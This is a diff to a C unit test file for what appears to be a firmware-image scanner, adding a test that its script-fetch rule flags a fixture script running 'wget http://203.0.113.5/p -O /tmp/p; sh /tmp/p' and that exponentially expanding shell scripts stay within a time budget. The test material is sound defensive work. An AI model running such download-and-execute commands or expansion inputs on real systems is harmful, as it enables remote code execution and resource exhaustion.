@@ -56,7 +56,7 @@ static void scripts_in_other_languages_give_what_they_do_and_no_more(void **stat
 /* Each assignment's value holds all that follow, and each bracket all within. */
 static void what_swells_a_script_is_given_up(void **state)
 {
-	static const char *const ends[] = { "$a=", "urlopen(", "sprintf(" };
+	static const char *const ends[] = { "$a=", "urlopen(", "sprintf(", "\\\"" };
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(ends); i++) {
 		struct fake k;
@@ -77,6 +77,35 @@ static void what_swells_a_script_is_given_up(void **state)
 		fake_end(&k);
 		buf_done(&text);
 	}
+}
+
+/* Each text is bounded; of many that are made to be work the last are left, and counted. */
+static void the_texts_of_an_image_share_one_budget(void **state)
+{
+	(void)state;
+	struct buf text = { 0 };
+	struct fake k;
+	uint32_t unread = 0;
+	char names[6][16];
+	buf_text(&text, "a=12345678\n");
+	for (int i = 0; i < 9; i++)
+		buf_text(&text, "a=$a$a\n");
+	for (int i = 0; i < 16000; i++)
+		buf_text(&text, "echo $a\n");
+	buf_u8(&text, 0);
+	fake_begin(&k);
+	k.scene.unread = &unread;
+	(void)fake_file(&k, "first.sh", SCENE_SCRIPT, "wget http://203.0.113.5/p -O /tmp/p; sh /tmp/p\n");
+	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
+		snprintf(names[i], sizeof(names[i]), "a%zu.sh", i);
+		(void)fake_file(&k, names[i], SCENE_SCRIPT, (const char *)text.p);
+	}
+	clock_t begun = clock();
+	assert_true(severity_of(&k, "fw.script-fetch") >= SEV_MEDIUM);
+	assert_true(clock() - begun < 20 * CLOCKS_PER_SEC);
+	assert_in_range(unread, 1, ARRAY_LEN(names) - 1);
+	fake_end(&k);
+	buf_done(&text);
 }
 
 static void rules_of_udev_and_mdev_run_commands(void **state)
@@ -319,6 +348,7 @@ int main(void)
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(scripts_in_other_languages_give_what_they_do_and_no_more),
 		cmocka_unit_test(what_swells_a_script_is_given_up),
+		cmocka_unit_test(the_texts_of_an_image_share_one_budget),
 		cmocka_unit_test(rules_of_udev_and_mdev_run_commands),
 		cmocka_unit_test(clients_of_libraries_have_destinations_and_passwords),
 		cmocka_unit_test(what_libcurl_writes_into_a_file_came_from_its_address),
